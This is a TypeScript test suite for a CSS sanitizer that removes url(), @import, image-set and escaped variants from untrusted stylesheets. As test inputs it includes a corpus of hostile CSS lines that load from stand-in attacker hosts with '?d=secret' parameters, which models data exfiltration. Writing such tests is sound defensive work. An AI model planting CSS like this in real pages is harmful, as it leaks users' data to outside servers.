import { describe, expect, it } from 'vitest';
import { sanitizeArtifactCss } from './sanitize-artifact-css.js';

const clean = (css: string) => sanitizeArtifactCss(css)?.css;
const png = 'data:image/png;base64,iVBORw0KGgo=';

describe('sanitizeArtifactCss', () => {
  it('keeps CSS that loads nothing as it is', () => {
    const css = `h1{color:red;margin:0 auto}\n.a::before{content:"url(" attr(x) ")"; font: 12px/1.5 "Helvetica Neue"}`;
    expect(sanitizeArtifactCss('h1{color:red;margin:0 auto}')).toEqual({ css: 'h1{color:red;margin:0 auto}', changed: false });
    expect(clean('@media (min-width: 3em) { .x:hover { transform: translate(1px, 2e3px) rotate(5deg) } }')).toBe(
      '@media (min-width: 3em) { .x:hover { transform: translate(1px, 2e3px) rotate(5deg) } }',
    );
    // A string that only looks like a url is dropped whole by the second look, which does not trust the tokenizer.
    expect(sanitizeArtifactCss(css)).toBeNull();
  });

  it('removes each construct of the hostile css-urls corpus', () => {
    const corpus = [
      '@import url("https://attacker.example/import.css?d=secret");',
      '@font-face { font-family: x; src: url(https://attacker.example/font.woff2?d=secret) }',
      'body { background: url(https://attacker.example/bg.png?d=secret); font-family: x }',
      '.a { background-image: image-set("https://attacker.example/set-1x.png?d=secret" 1x, url(https://evil.example/set-2x.png?d=secret) 2x) }',
      '.b { background: -webkit-image-set(url(https://attacker.example/webkit.png?d=secret) 1x) }',
      '.c { cursor: url(https://attacker.example/cursor.png?d=secret), auto; list-style: url(https://attacker.example/bullet.png?d=secret) }',
      '.d::after { content: url(https://attacker.example/after.png?d=secret) }',
    ].join('\n');
    expect(sanitizeArtifactCss(corpus)).toEqual({
      css: [
        '',
        '@font-face { font-family: x; src: none }',
        'body { background: none; font-family: x }',
        '.a { background-image: none }',
        '.b { background: none }',
        '.c { cursor: none, auto; list-style: none }',
        '.d::after { content: none }',
      ].join('\n'),
      changed: true,
    });
    expect(clean('background:url(https://evil.example/inline.png?d=secret)')).toBe('background:none');
    expect(clean('fill:url(https://attacker.example/fill.svg?d=secret#g)')).toBe('fill:none');
  });

  it('removes @import in every form, to its semicolon or the end of its block', () => {
    expect(clean('@import "https://a.example/x.css"; p{color:red}')).toBe(' p{color:red}');
    expect(clean("@IMPORT 'x.css' screen and (min-width: 1px);p{}")).toBe('p{}');
    expect(clean('@\\69mport url(x.css) layer(base);p{}')).toBe('p{}');
    expect(clean('@import url(x.css) { a: b } p{}')).toBe(' p{}');
    expect(clean('@media screen { @import "x.css" } p{}')).toBe('@media screen { } p{}');
    expect(clean('p{} @import "x.css"')).toBe('p{} ');
    expect(clean('@import "x.css" supports(display: grid) ;')).toBe('');
  });

  it('reads escapes, cases and whitespace the way the browser does', () => {
    expect(clean('a{background:u\\72l(https://a.example/x.png)}')).toBe('a{background:none}');
    expect(clean('a{background:\\75 \\52 \\4c (https://a.example/x.png)}')).toBe('a{background:none}');
    expect(clean('a{background:URL( "https://a.example/x.png" )}')).toBe('a{background:none}');
    expect(clean('a{background:url(\\68ttps://a.example/x.png)}')).toBe('a{background:none}');
    expect(clean('a{background:url("\\68ttps://a.example/x.png")}')).toBe('a{background:none}');
    expect(clean('a{background:url(  https://a.example/x.png  )}')).toBe('a{background:none}');
    expect(clean('a{background:url(//a.example/x.png)}')).toBe('a{background:none}');
    expect(clean('a{background:url(x.png)}')).toBe('a{background:none}');
    expect(clean('a{background:src("https://a.example/x.png")}')).toBe('a{background:none}');
    expect(clean('a{background:url(https://a.example/x.png')).toBe('a{background:none');
    expect(clean('a{background:url("https://a.example/x.png"')).toBe('a{background:none');
  });

  it('treats comments inside url() as part of the URL, and comments elsewhere as nothing', () => {
    expect(clean('a{background:url( /**/ https://a.example/x.png)}')).toBe('a{background:none}');
    expect(clean('a{background:url(/**/https://a.example/x.png)}')).toBe('a{background:none}');
    expect(clean('a{background:url(/**/"https://a.example/x.png")}')).toBe('a{background:none}');
    expect(clean('a{background:url(/* x */ "https://a.example/x.png")}')).toBe('a{background:none}');
    expect(clean('a{background: /* url(https://a.example/x.png) */ red}')).toBe('a{background: /**/ red}');
    expect(clean('a{background:u/**/rl(https://a.example/x.png)}')).toBe('a{background:u/**/rl(https://a.example/x.png)}');
  });

  it('keeps data: URLs and in-document references, in urls and image sets', () => {
    const css = `a{background:url(${png});mask:url("${png}");fill:url(#gradient);cursor:url( '${png}' ),auto}`;
    expect(sanitizeArtifactCss(css)).toEqual({ css, changed: false });
    const set = `a{background-image:image-set("${png}" 1x, url(${png}) 2x type("image/png"))}`;
    expect(clean(set)).toBe(set);
  });

  it('replaces a whole image set that names any URL that loads, as a string or a url', () => {
    expect(clean(`a{background-image:image-set("${png}" 1x, "b.png" 2x)}`)).toBe('a{background-image:none}');
    expect(clean(`a{background-image:-webkit-image-set(url(${png}) 1x, url("b.png") 2x)}`)).toBe('a{background-image:none}');
    expect(clean('a{background-image:IMAGE-SET("https://a.example/x.png" 1x)}')).toBe('a{background-image:none}');
    expect(clean('a{background-image:image("https://a.example/x.png")}')).toBe('a{background-image:none}');
    expect(clean('a{background-image:cross-fade(url(https://a.example/x.png), red)}')).toBe('a{background-image:none}');
  });

  it('keeps its place after names, numbers and hashes ending in url, which the second look still drops', () => {
    expect(clean('a{width:2url(x);b:-url(y)}')).toBeUndefined();
    expect(clean('#url(x){}')).toBeUndefined();
    expect(clean('a{b:-url("x) url(https://a.example/x.png)")}')).toBeUndefined();
    expect(clean('a{b:2url(x"; background:url(https://a.example/x.png)}')).toBeUndefined();
    expect(clean('a{b:2url(x); background:url(https://a.example/x.png)}')).toBeUndefined();
    expect(clean('a{b:urlx(x); background:url(https://a.example/x.png)}')).toBe('a{b:urlx(x); background:none}');
  });

  it('replaces bad urls and urls in strings broken by a newline', () => {
    expect(clean('a{background:url(https://a.example/x"y.png)}')).toBe('a{background:none}');
    expect(clean('a{background:url("https://a.example/x.png\n)}')).toBe('a{background:none}');
  });

  it('gives null for what it cannot read with confidence', () => {
    expect(sanitizeArtifactCss('a{content:"@import"}')).toBeNull();
    expect(sanitizeArtifactCss('a{content:"u\\72l(https://a.example/x.png)"}')).toBeNull();
  });
});
